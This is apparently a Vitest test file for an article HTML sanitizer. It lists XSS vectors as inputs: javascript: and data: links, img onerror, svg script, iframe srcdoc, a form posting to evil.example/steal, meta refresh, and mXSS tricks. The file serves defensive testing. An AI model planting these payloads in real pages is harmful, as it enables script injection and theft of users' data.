import { describe, expect, it } from 'vitest';
import { sanitizeArticleHtml } from './sanitize.ts';

// Script-injection vectors the sanitizer must neutralize: each one and what must not survive it (and, where useful, what must).
const VECTORS: Array<{ name: string; input: string; absent: string[]; present?: string[] }> = [
  { name: 'javascript: href', input: '<a href="javascript:alert(1)">x</a>', absent: ['javascript', 'href'] },
  { name: 'javascript: href, obfuscated', input: '<a href="jav&#x09;ascript:alert(1)">x</a><a href=" JaVaScRiPt:alert(1)">y</a>', absent: ['ascript', 'href'] },
  { name: 'data: href', input: '<a href="data:text/html,<script>alert(1)</script>">x</a>', absent: ['data:', 'script'] },
  { name: 'vbscript: href', input: '<a href="vbscript:msgbox(1)">x</a>', absent: ['vbscript'] },
  { name: 'img onerror', input: '<img src="https://cdn.example/a.png" onerror="alert(1)">', absent: ['onerror'], present: ['<img src="https://cdn.example/a.png" />'] },
  { name: 'img javascript src', input: '<img src="javascript:alert(1)"><img src="data:image/png;base64,AAAA">', absent: ['<img', 'javascript', 'data:'] },
  { name: 'svg script', input: '<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)">t</a></svg>', absent: ['<svg', 'script', 'alert', 'xlink'] },
  { name: 'iframe srcdoc', input: '<iframe srcdoc="<script>alert(1)</script>" src="https://evil.example"></iframe>', absent: ['iframe', 'srcdoc', 'evil', 'alert'] },
  { name: 'form action', input: '<form action="https://evil.example/steal"><input name="p"><button formaction="x">Go</button></form>', absent: ['form', 'input', 'button', 'evil', 'Go'] },
  { name: 'style tag and attribute', input: '<style>body{background:url(x)}</style><p style="position:fixed">t</p>', absent: ['style', 'background', 'fixed'], present: ['<p>t</p>'] },
  { name: 'event handlers', input: '<p onclick="a()" onmouseover="b()">t</p><div onfocus="c()" tabindex="1">u</div>', absent: ['onclick', 'onmouseover', 'onfocus', 'tabindex'] },
  { name: 'object and embed', input: '<object data="x.swf"><param name="a" value="b"></object><embed src="y.swf">', absent: ['object', 'embed', 'param', 'swf'] },
  { name: 'meta refresh and base', input: '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">', absent: ['meta', 'base', 'evil'] },
  { name: 'mXSS via noscript', input: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', absent: ['onerror', 'alert'] },
  { name: 'mXSS via comment in attribute', input: '<p title="--><script>alert(1)</script>">x</p>', absent: ['<script'] },
  { name: 'protocol-relative link', input: '<a href="//evil.example/x">x</a>', absent: ['evil'] },
  {
    name: 'safe links keep their href and get rel',
    input: '<a href="https://news.example/a" target="_blank" rel="opener">a</a> <a href="mailto:desk@news.example">b</a>',
    absent: ['target', 'opener"'],
    present: [
      '<a href="https://news.example/a" rel="noopener noreferrer nofollow">a</a>',
      '<a href="mailto:desk@news.example" rel="noopener noreferrer nofollow">b</a>',
    ],
  },
];

describe('sanitizeArticleHtml', () => {
  for (const v of VECTORS) {
    it(v.name, () => {
      const out = sanitizeArticleHtml(v.input);
      for (const s of v.absent) expect(out.toLowerCase()).not.toContain(s.toLowerCase());
      for (const s of v.present ?? []) expect(out).toContain(s);
    });
  }
});
